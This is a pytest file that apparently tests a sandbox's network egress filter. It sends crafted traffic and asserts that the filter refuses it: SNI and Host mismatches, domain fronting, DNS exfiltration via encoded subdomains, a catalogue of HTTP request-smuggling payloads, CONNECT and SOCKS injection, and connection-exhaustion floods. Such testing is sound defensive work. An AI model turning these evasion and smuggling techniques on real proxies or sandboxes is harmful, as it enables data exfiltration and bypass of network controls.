"""P3: what is said on a connection is what the rule is about, and clients that say anything else
cost neither the promise nor the service."""

import json
import re
from pathlib import Path

import pytest
import support

DOMAIN = "coffer-world.com"
ALLOWED, DENIED, V4 = f"allowed.{DOMAIN}", f"denied.{DOMAIN}", f"v4.{DOMAIN}"


def hosts_reached(world):
    return [entry["host"] for entry in world.log("http")]


# Names.


@pytest.mark.core
def test_the_name_in_tls_is_the_name_that_was_asked_for(attack, world):
    code = """
        allowed, denied, site = sys.argv[1:]
        address = socket.gethostbyname(allowed)
        tell({
            "good": hello(allowed, allowed),
            "letter case": hello(allowed, allowed.upper(), then=request(allowed)),
            "other": hello(allowed, denied),
            "sibling": hello(allowed, "x" + allowed),
            "below": hello(allowed, "x." + allowed),
            "none": hello(allowed, None),
            "stand-in": hello(address, denied),
            "plain http": talk(allowed, 443, request(allowed)),
            "by proxy": tunnel(f"{allowed}:443", b"\\x16\\x03\\x01" * 3),
            "ssh": talk(allowed, 443, "SSH-2.0-x\\r\\n"),
        })
        """
    run = attack(code, ALLOWED, DENIED, world.SITE, allow=[ALLOWED])
    told = run.told
    for good in ("good", "letter case"):
        assert "hello from" in told.pop(good), run.describe()
    for case, answer in told.items():
        assert "hello from" not in answer and "SSH" not in answer, (case, answer)
    assert hosts_reached(world) == [ALLOWED, ALLOWED]
    reasons = str([entry["reason"] for entry in run.report["network"]["entries"]])
    assert run.denials(promise="P3") and DENIED in reasons and "SNI" in reasons, run.describe()


def test_a_client_hello_in_pieces(attack, world):
    """However it is cut, into segments or records, its name is read, or it is refused."""
    code = """
        allowed, denied = sys.argv[1:]
        def client_hello(name):
            context = ssl.create_default_context()
            context.check_hostname = False
            context.verify_mode = ssl.CERT_NONE
            incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
            tls = context.wrap_bio(incoming, outgoing, server_hostname=name)
            try:
                tls.do_handshake()
            except ssl.SSLWantReadError:
                pass
            return outgoing.read()
        def send(pieces, pause=0.0):
            try:
                with socket.create_connection((allowed, 443), PATIENCE_S) as c:
                    c.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
                    for piece in pieces:
                        c.sendall(piece)
                        time.sleep(pause)
                    c.settimeout(PATIENCE_S)
                    answer = c.recv(5)
                    return "server hello" if answer[:1] == b"\\x16" else answer.hex() or "closed"
            except OSError as error:
                return word(error)
        def records(data, size):
            body = data[5:]
            return [data[:3] + struct.pack("!H", len(p)) + p for p in parts(body, size)]
        def parts(data, size):
            return [data[i:i + size] for i in range(0, len(data), size)]
        good, bad = client_hello(allowed), client_hello(denied)
        def number(data, at):
            return struct.unpack("!H", data[at:at + 2])[0]
        def with_name(data, name):  # one more server_name, at the end
            n = len(name)
            extension = struct.pack("!HHHBH", 0, n + 5, n + 3, 0, n) + name.encode()
            data = bytearray(data + extension)
            at = 5 + 4 + 2 + 32
            at += 1 + data[at]
            at += 2 + number(data, at)
            at += 1 + data[at]
            grow = len(extension)
            for where in (at, 3):
                data[where:where + 2] = struct.pack("!H", number(data, where) + grow)
            data[6:9] = (int.from_bytes(data[6:9], "big") + grow).to_bytes(3, "big")
            return bytes(data)
        tell({
            "good": send([good]),
            "good in segments": send(parts(good, 7)),
            "good, slowly": send(parts(good, 100), 0.05),
            "good in records": send([b"".join(records(good, 50))]),
            "bad": send([bad]),
            "bad in segments": send(parts(bad, 7)),
            "bad in records": send([b"".join(records(bad, 50))]),
            "bad in records of one": send([b"".join(records(bad, 1))]),
            "bad, cut in the name": send(parts(bad, bad.index(denied.encode()) + 4), 0.05),
            "two names, the good first": send([with_name(good, denied)]),
            "two names, the bad first": send([with_name(bad, allowed)]),
            "an alert first": send([b"\\x15\\x03\\x01\\x00\\x02\\x01\\x00" + bad]),
            "an empty record first": send([b"\\x16\\x03\\x01\\x00\\x00" + bad]),
        })
        """
    run = attack(code, ALLOWED, DENIED, allow=[ALLOWED])
    through = {case for case, answer in run.told.items() if answer == "server hello"}
    assert through == {"good", "good in segments", "good, slowly", "good in records"}, run.told


@pytest.mark.core
def test_the_host_in_http_is_the_name_that_was_asked_for(attack, world):
    code = """
        allowed, denied = sys.argv[1:]
        kept = f"GET / HTTP/1.1\\r\\nHost: {allowed}\\r\\n\\r\\n"
        def head(*lines):
            return "\\r\\n".join(["GET / HTTP/1.1", *lines, "Connection: close", "", ""])
        tell({
            "good": talk(allowed),
            "port": talk(allowed, 80, head(f"Host: {allowed}:80")),
            "letter case": talk(allowed, 80, head(f"hOsT: {allowed.upper()}")),
            "dot": talk(allowed, 80, head(f"Host: {allowed}.")),
            "other": talk(allowed, 80, head(f"Host: {denied}")),
            "other port": talk(allowed, 80, head(f"Host: {allowed}:8080")),
            "none": talk(allowed, 80, head("X: y")),
            "empty": talk(allowed, 80, head("Host:")),
            "two": talk(allowed, 80, head(f"Host: {allowed}", f"Host: {denied}")),
            "two, the other first": talk(allowed, 80, head(f"Host: {denied}", f"Host: {allowed}")),
            "list": talk(allowed, 80, head(f"Host: {allowed}, {denied}")),
            "user": talk(allowed, 80, head(f"Host: {allowed}@{denied}")),
            "absolute": talk(allowed, 80, request(allowed, path=f"http://{denied}/")),
            "space before colon": talk(allowed, 80, head(f"Host: {allowed}", f"Host : {denied}")),
            "folded": talk(allowed, 80, head(f"X: y", f" Host: {denied}", f"Host: {allowed}")),
            "http/1.0 without": talk(allowed, 80, "GET / HTTP/1.0\\r\\n\\r\\n"),
            "http/0.9": talk(allowed, 80, "GET /\\r\\n\\r\\n"),
            "second request": talk(allowed, 80, kept + head(f"Host: {denied}")),
        })
        """
    run = attack(code, ALLOWED, DENIED, allow=[ALLOWED])
    for good in ("good", "port", "letter case", "dot"):
        assert "hello from" in run.told[good].lower(), (good, run.told[good])
    assert run.told["second request"].count("hello from") == 1, run.told["second request"]
    for case, answer in run.told.items():
        assert DENIED not in "".join(re.findall(r"hello from.*", answer)), (case, answer)
    for entry in world.log("http"):
        assert re.fullmatch(re.escape(ALLOWED) + r"\.?(:80)?", entry["host"].lower()), entry
        assert entry["path"] == "/", entry
    assert len(world.log("http")) <= 5, world.log("http")


def test_fronting_on_an_inspected_host(attack, world):
    """The name in TLS is the allowed one, the Host within another: seen where TLS is inspected."""
    code = """
        allowed, denied = sys.argv[1:]
        kept = f"GET / HTTP/1.1\\r\\nHost: {allowed}\\r\\n\\r\\n"
        tell({
            "good": hello(allowed, allowed),
            "fronted": hello(allowed, allowed, then=request(denied)),
            "absolute": hello(allowed, allowed, then=request(allowed, path=f"https://{denied}/")),
            "second": hello(allowed, allowed, then=kept + request(denied)),
        })
        """
    flags = ["--net-inspect", ALLOWED, "--upstream-ca", world.ca]
    run = attack(code, ALLOWED, DENIED, allow=[ALLOWED], flags=flags)
    assert "hello from" in run.told["good"], run.describe()
    assert "421" in run.told["fronted"] and "hello" not in run.told["fronted"], run.told
    assert "hello" not in run.told["absolute"], run.told
    assert run.told["second"].count("hello from") == 1, run.told
    assert set(hosts_reached(world)) == {ALLOWED}
    assert run.denials(promise="P3"), run.describe()


# DNS as a way out.


@pytest.mark.core
def test_no_question_leaves_for_a_name_that_is_not_allowed(attack, world):
    code = """
        allowed, denied, domain = sys.argv[1:]
        names = [denied, "c2VjcmV0." + denied, "c2VjcmV0." + domain, "c2VjcmV0." + allowed, domain,
                 "com", "", "evil" + allowed, allowed + ".evil.org", "localhost.evil.org"]
        answers = {n: query(n) for n in names}
        answers["many labels"] = query("a." * 120 + denied)
        answers["dot within a label"] = query(["x.allowed", *domain.split(".")])
        answers["whole as one label"] = query([allowed])
        answers["nul"] = query([allowed.split(".")[0] + "\\0", *domain.split(".")])
        for kind in (2, 5, 6, 12, 15, 16, 28, 33, 65, 255):
            answers[f"type {kind}"] = query(denied, kind)
        answers["mine"] = query(allowed)
        answers["mine in capitals"] = query(allowed.upper())
        answers["mine as TXT"] = query(allowed, 16)
        for server in ("93.184.10.53", "8.8.8.8", "1.2.3.4", "127.0.0.1", "2001:2::1"):
            answers[f"mine by {server}"] = query(allowed, server=(server, 53))
            answers[f"other by {server}"] = query(denied, server=(server, 53))
        tell(answers)
        """
    run = attack(code, ALLOWED, DENIED, DOMAIN, allow=[ALLOWED])
    mine = {case: answer for case, answer in run.told.items() if case.startswith("mine")}
    assert mine.pop("mine") == mine.pop("mine in capitals") == [0, 1], run.told
    assert mine.pop("mine as TXT")[1] == 0
    assert all(answer == [0, 1] for answer in mine.values()), mine
    for case, answer in run.told.items():
        assert case.startswith("mine") or answer[1] == 0, (case, answer)
    assert {entry["name"] for entry in world.log("dns")} <= {ALLOWED}
    assert {entry["type"] for entry in world.log("dns")} <= {1, 28}
    assert run.denials(call="resolve", promise="P3", target=DENIED), run.describe()


def test_names_below_a_wildcard_are_slowed(attack, world):
    """20 a minute go at once, the rest waits or is refused; a name that is known costs nothing."""
    code = """
        below = sys.argv[1]
        began = time.monotonic()
        quick = [query(f"n{i}.{below}")[1] for i in range(18)]
        quick_s = time.monotonic() - began
        answers = []
        def one(i):
            answers.append(query(f"exfil{i}.{below}", patience=1))
        threads = [threading.Thread(target=one, args=[i]) for i in range(40)]
        [t.start() for t in threads]
        [t.join() for t in threads]
        began = time.monotonic()
        known = query(f"n3.{below}")[1]
        tell({"quick": quick, "quick_s": quick_s, "late": answers, "known": known,
              "known_s": time.monotonic() - began})
        """
    below = f"wild.{DOMAIN}"
    run = attack(code, below, allow=[f"*.{below}"])
    told = run.told
    assert told["quick"] == [1] * 18 and told["quick_s"] < 2 * support.SLOWDOWN, told
    assert sum(1 for answer in told["late"] if answer != "timeout" and answer[1] == 1) <= 5, told
    assert told["known"] == 1 and told["known_s"] < 1 * support.SLOWDOWN, told
    assert len({entry["name"] for entry in world.log("dns")}) <= 18 + 5
    assert "20 new names a minute" in str(run.report) or "slow" in str(run.report), run.describe()


def test_long_labels_below_a_wildcard_are_slowed(attack, world):
    code = """
        below = sys.argv[1]
        answers = []
        def one(i):
            answers.append(query(f"{'a' * 60}.{'b' * 60}.{'c' * 50}{i}.{below}", patience=1))
        threads = [threading.Thread(target=one, args=[i]) for i in range(15)]
        [t.start() for t in threads]
        [t.join() for t in threads]
        tell(answers)
        """
    below = f"wild.{DOMAIN}"
    run = attack(code, below, allow=[f"*.{below}"])
    left = {entry["name"] for entry in world.log("dns")}
    assert sum(len(name) for name in left) <= 256 * 4, left  # the burst, and what a second gives
    assert 1 <= len(left) < 6


# Requests within requests.

# P and G stand for the start of an honest request, C for its coding in chunks, | for the end of a
# line.
SMUGGLING = {
    "two lengths": "P|Content-Length: 5|Content-Length: 60||abcde{evil}",
    "list of lengths": "P|Content-Length: 5, 60||abcde{evil}",
    "CL.TE": "P|Content-Length: 6|C||0||G{evil}",
    "TE.CL": "P|C|Content-Length: 4||5c|{evil}|0||",
    "TE.TE": "P|C|Transfer-Encoding: x||0||{evil}",
    "TE of tab": "P|Transfer-Encoding:\tchunked, identity||0||{evil}",
    "TE with a space": "P|Transfer-Encoding : chunked|Content-Length: 5||0||{evil}",
    "TE unknown": "P|Transfer-Encoding: xchunked||0||{evil}",
    "TE in 1.0": "POST / HTTP/1.0|Host: {h}|C||0||{evil}",
    "chunk size of sign": "P|C||+0||{evil}",
    "chunk size of 0x": "P|C||0x0||{evil}",
    "chunk size too large": "P|C||10000000000000000|{evil}",
    "chunk extension": "P|C||1;\nxx|Z|0||{evil}",
    "negative length": "P|Content-Length: -1||{evil}",
    "length of sign": "P|Content-Length: +0||{evil}",
    "bare LF": "POST / HTTP/1.1\nHost: {h}\nContent-Length: 0\n\n{evil}",
    "bare CR": "G|X: y\rZ: w||{evil}",
    "NUL": "G|X: y\0z||{evil}",
    "fold": "G|X: y|\tz: w||{evil}",
    "space in the target": "GET / HTTP/1.1 HTTP/1.1|Host: {h}||{evil}",
    "method of controls": "GE\x01T / HTTP/1.1|Host: {h}||{evil}",
    "length on GET": "G|Content-Length: 60||{evil}",
    "upgrade": "G|Upgrade: websocket|Connection: Upgrade||{evil}",
    "h2c": "G|Upgrade: h2c|HTTP2-Settings: AAMAAABkAAQ|Connection: Upgrade, HTTP2-Settings||{evil}",
    "h2 preface": "PRI * HTTP/2.0||SM||{evil}",
    "connect within": "CONNECT {d}:80 HTTP/1.1|Host: {h}||{evil}",
    "connection drops the length": "P|Connection: Content-Length|Content-Length: 6||abcdef{evil}",
    "connection drops the host": "G|Connection: Host||{evil}",
}
SHORT = {
    "P|": "POST / HTTP/1.1|Host: {h}|",
    "G|": "GET / HTTP/1.1|Host: {h}|",
    "C|": "Transfer-Encoding: chunked|",
    "|": "\r\n",
}
SMUGGLE = """
way, host, port, denied = sys.argv[1:5]
PATIENCE_S = 2  # some wait for the rest of a body
answers = {}
def one(case):
    text = cases[case]
    if way == "proxy":  # absolute-form, as a proxy is spoken to
        text = text.replace(" /", f" http://{host}:{port}/", 1)
        with socket.create_connection(PROXY, PATIENCE_S) as connection:
            answers[case] = say(connection, text)
    else:
        answers[case] = talk(host, int(port), text)
cases = json.loads(sys.argv[5])
threads = [threading.Thread(target=one, args=[c]) for c in cases]
[t.start() for t in threads]
[t.join() for t in threads]
tell(answers)
"""


def split_requests(data):
    """What a strict server reads: the requests in the bytes of one connection."""
    requests = []
    while data:
        head, end, data = data.partition("\r\n\r\n")
        assert end, f"not a whole head: {head!r}"
        lines = head.split("\r\n")
        assert re.fullmatch(r"[A-Z]+ /[^ \x00-\x1f]* HTTP/1\.1", lines[0]), head
        fields = []
        for line in lines[1:]:
            assert re.fullmatch(r"[!-9;-~]+:[^\x00-\x08\x0a-\x1f\x7f]*", line), repr(line)
            name, _, value = line.partition(":")
            fields.append((name.lower(), value.strip().lower()))
        names = [name for name, _ in fields]
        assert names.count("host") == 1, head
        framing = names.count("content-length") + names.count("transfer-encoding")
        assert framing <= 1, head
        fields = dict(fields)
        if "transfer-encoding" in fields:
            assert fields["transfer-encoding"] == "chunked"
            while True:
                size, _, data = data.partition("\r\n")
                assert re.fullmatch("[0-9a-f]+", size), size
                assert data[int(size, 16) :][:2] == "\r\n"
                data = data[int(size, 16) + 2 :]
                if int(size, 16) == 0:
                    break
        else:
            data = data[int(fields.get("content-length", 0)) :]
        requests.append((lines[0], fields["host"]))
    return requests


@pytest.mark.parametrize("way", ["direct", "proxy"])
def test_request_smuggling(attack, world, way):
    """Whatever a client sends, what arrives is requests that can be read in one way only, none of
    which is the hidden one's host."""
    evil = f"GET /hidden HTTP/1.1\r\nHost: {DENIED}\r\n\r\n"
    cases = {}
    for case, text in SMUGGLING.items():
        for short, long in SHORT.items():
            text = text.replace(short, long)
        cases[case] = text.format(h=f"{ALLOWED}:8081", d=DENIED, evil=evil)
    cases["honest"] = f"POST / HTTP/1.1\r\nHost: {ALLOWED}:8081\r\nContent-Length: 5\r\n\r\nabcde"
    cases["honest chunks"] = (
        f"POST /chunks HTTP/1.1\r\nHost: {ALLOWED}:8081\r\nTransfer-Encoding: chunked\r\n\r\n"
        "5\r\nabcde\r\n0\r\n\r\n"
    )
    run = attack(SMUGGLE, way, ALLOWED, 8081, DENIED, json.dumps(cases),
                 allow=[f"{ALLOWED}:8081/http"], timeout=40)  # fmt: skip
    assert run.told["honest"].endswith("ok") and run.told["honest chunks"].endswith("ok"), run.told
    arrived = [entry["data"] for entry in world.log("raw")]
    assert any("abcde" in data for data in arrived)
    for data in arrived:
        requests = split_requests(data)
        for line, host in requests:
            assert host.startswith(ALLOWED), data
            assert "/hidden" not in line, data
    assert {entry["address"] for entry in world.log("raw")} <= {world.SITE, world.SITE6}
    assert not [name for name in world.log("dns") if DENIED in name["name"]]


def test_header_injection_by_proxy(attack, world):
    code = """
        allowed, denied = sys.argv[1:]
        get = request(allowed)
        tell({
            "good connect": tunnel(f"{allowed}:80", get),
            "good socks": socks(allowed, 80, get),
            "connect crlf": proxied(f"CONNECT {allowed}:80\\r\\nX: y HTTP/1.1", "", get),
            "connect lf": proxied(f"CONNECT {allowed}:80\\n HTTP/1.1", "", get),
            "connect encoded": proxied(f"CONNECT {denied}%00.{allowed}:80 HTTP/1.1", "", get),
            "connect nul": proxied(f"CONNECT {denied}\\0.{allowed}:80 HTTP/1.1", "", get),
            "connect user": proxied(f"CONNECT {allowed}@{denied}:80 HTTP/1.1", "", get),
            "connect slash": proxied(f"CONNECT {denied}/{allowed}:80 HTTP/1.1", "", get),
            "connect hash": proxied(f"CONNECT {denied}#{allowed}:80 HTTP/1.1", "", get),
            "connect two ports": proxied(f"CONNECT {allowed}:80:443 HTTP/1.1", "", get),
            "connect no port": proxied(f"CONNECT {allowed} HTTP/1.1", "", get),
            "connect port 65616": proxied(f"CONNECT {allowed}:65616 HTTP/1.1", "", get),
            "connect port 0": proxied(f"CONNECT {allowed}:0 HTTP/1.1", "", get),
            "connect then other": tunnel(f"{allowed}:80", request(denied)),
            "connect host other": tunnel(f"{denied}:80", get, allowed),
            "absolute user": absolute(f"{allowed}@{denied}", denied),
            "absolute backslash": absolute(f"{denied}\\\\@{allowed}", allowed),
            "absolute ftp": proxied(f"GET ftp://{allowed}/ HTTP/1.1", f"Host: {allowed}\\r\\n"),
            "absolute https": proxied(f"GET https://{denied}/ HTTP/1.1", f"Host: {denied}\\r\\n"),
            "socks nul": socks(f"{denied}\\0.{allowed}", 80, get),
            "socks nul after": socks(f"{allowed}\\0", 80, get),
            "socks crlf": socks(f"{allowed}\\r\\nX: y", 80, get),
            "socks empty": socks("", 80, get),
            "socks other": socks(denied, 80, request(denied)),
            "socks 255": socks("a" * 255, 80, get),
            "socks port 0": socks(allowed, 0, get),
        })
        """
    run = attack(code, ALLOWED, DENIED, allow=[ALLOWED])
    for case, answer in run.told.items():
        assert ("hello from" in answer) == case.startswith("good"), (case, answer)
    assert hosts_reached(world) == [ALLOWED, ALLOWED]
    assert {entry["name"] for entry in world.log("dns")} <= {ALLOWED}


# Clients that are no clients.


@pytest.mark.core
def test_garbage(attack, world):
    """Whoever speaks garbage is let go of; others are served meanwhile, and afterwards."""
    code = """
        import random
        allowed = sys.argv[1]
        chance = random.Random(4711)
        def garbage(length):
            return chance.randbytes(length)
        def hexed(text):
            return bytes.fromhex(text)
        pieces = [b"", b"\\0", b"\\r\\n" * 500, b"GET " * 50, b"GET / HTTP/9.9\\r\\n\\r\\n",
                  hexed("160301ffff") + garbage(400), hexed("16030100050100000100"),
                  hexed("05"), hexed("05ff") + garbage(300), hexed("05010005030001000000000000"),
                  hexed("040100505db80a0a00"), hexed("802e01") + garbage(60),
                  garbage(10), garbage(3000)]
        outcomes = []
        def one(target, piece):
            try:
                with socket.create_connection(target, PATIENCE_S) as c:
                    c.settimeout(PATIENCE_S)
                    c.sendall(piece)
                    c.shutdown(socket.SHUT_WR)
                    outcomes.append(read_all(c))
            except OSError as e:
                outcomes.append(word(e))
        targets = [PROXY, RESOLVER, (allowed, 80), (allowed, 443), ("198.18.0.1", 1)]
        threads = [threading.Thread(target=one, args=[t, p]) for t in targets for p in pieces]
        [t.start() for t in threads]
        meanwhile = talk(allowed)
        [t.join() for t in threads]
        for piece in pieces:  # and datagrams to the resolver
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as u:
                u.sendto(piece, RESOLVER)
        tell({"meanwhile": meanwhile, "afterwards": talk(allowed),
              "over tls": hello(allowed, allowed),
              "through": [o for o in outcomes if "hello" in o or "HTTP/1.1 200" in o],
              "hung": [o for o in outcomes if o == "timeout"]})
        """
    run = attack(code, ALLOWED, allow=[ALLOWED], timeout=40)
    for kind in ("meanwhile", "afterwards", "over tls"):
        assert "hello from" in run.told[kind], (kind, run.describe())
    assert run.told["through"] == [] and run.told["hung"] == [], run.told
    assert {entry["name"] for entry in world.log("dns")} <= {ALLOWED}


# Runs in the world beside the box: the peak of egress's memory, sampled until the box has ended.
MEASURED = """
import json, os, subprocess, sys, time
box = subprocess.Popen(sys.argv[1:])
peak = 0
while box.poll() is None:
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/status") as f:
                status = dict(line.split(":", 1) for line in f)
        except OSError:
            continue
        if status["Name"].strip() == "coffer-egress" and "VmHWM" in status:
            peak = max(peak, int(status["VmHWM"].split()[0]))
    time.sleep(0.05)
print(json.dumps({"egress_peak_kib": peak}))
sys.exit(box.returncode)
"""


@pytest.fixture
def measured(world, coffer, workspace):
    """Runs code in a box that may reach ALLOWED: what it told, and the peak of egress in KiB."""
    words = (Path(__file__).resolve().parent / "inside.py").read_text()

    def run(code, timeout):
        box = [coffer, "run", "--quiet", "--allow-domain", ALLOWED, "--", "/usr/bin/python3", "-c"]
        code += "\ntime.sleep(0.3)\n"  # for a last look
        result = world.run("/usr/bin/python3", "-c", MEASURED, *box, words + code, ALLOWED,
                           cwd=workspace, timeout=timeout).ok()  # fmt: skip
        told, peak = (json.loads(line) for line in result.out.splitlines())
        assert peak["egress_peak_kib"] > 1000, "the peak of egress was not seen"
        return told, peak["egress_peak_kib"]

    return run


def test_ten_thousand_half_open_connections(measured, world):
    code = """
import resource
allowed = sys.argv[1]
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
address = socket.gethostbyname(allowed)
targets = [PROXY, (address, 80), (address, 443), RESOLVER]
each = 10000 // 8
started = []
done_read, done_write = os.pipe()
go_read, go_write = os.pipe()
children = []
for k in range(8):
    child = os.fork()
    if child == 0:
        os.close(go_write)
        held = []
        for i in range(each):
            s = socket.socket()
            s.setblocking(False)
            s.connect_ex(targets[(i + k) % len(targets)])
            held.append(s)
        os.write(done_write, struct.pack("i", len(held)))
        os.read(go_read, 1)
        os._exit(0)
    children.append(child)
os.close(go_read)
opened = sum(struct.unpack("i", os.read(done_read, 4))[0] for _ in children)
meanwhile = query(allowed)
os.close(go_write)
for child in children:
    os.waitpid(child, 0)
tell({"opened": opened, "meanwhile": meanwhile, "afterwards": talk(allowed),
      "tls": hello(allowed, allowed)})
"""
    told, peak_kib = measured(code, timeout=50)
    assert told["opened"] == 10000
    assert told["meanwhile"] == [0, 1], told
    assert "hello from" in told["afterwards"] and "hello from" in told["tls"], told
    assert peak_kib < 32 * 1024


@pytest.mark.timeout(120)
def test_a_request_line_of_a_gibibyte(measured, world):
    code = """
allowed = sys.argv[1]
block = b"a" * (1 << 20)
chunked = "Transfer-Encoding: chunked\\r\\n"
def pour(target, first):
    sent = 0
    try:
        with socket.create_connection(target, PATIENCE_S) as c:
            c.sendall(first)
            for _ in range(1024):
                c.sendall(block)
                sent += len(block)
    except OSError:
        pass
    return sent
tell({
    "line": pour((allowed, 80), b"GET /"),
    "header": pour((allowed, 80), b"GET / HTTP/1.1\\r\\nX: "),
    "proxy": pour(PROXY, b"CONNECT "),
    "hello": pour((allowed, 443), b"\\x16\\x03\\x01\\x40\\x00\\x01\\xff\\xff\\xff"),
    "chunk": pour((allowed, 80), (request(allowed, "POST", more=chunked) + "1;").encode()),
    "afterwards": talk(allowed),
})
"""
    told, peak_kib = measured(code, timeout=60)
    assert "hello from" in told.pop("afterwards"), told
    for case, sent in told.items():
        assert sent < 16 << 20, (case, sent)  # refused long before its end
    assert peak_kib < 12 * 1024
    assert all(len(entry["path"]) < 100 for entry in world.log("http"))
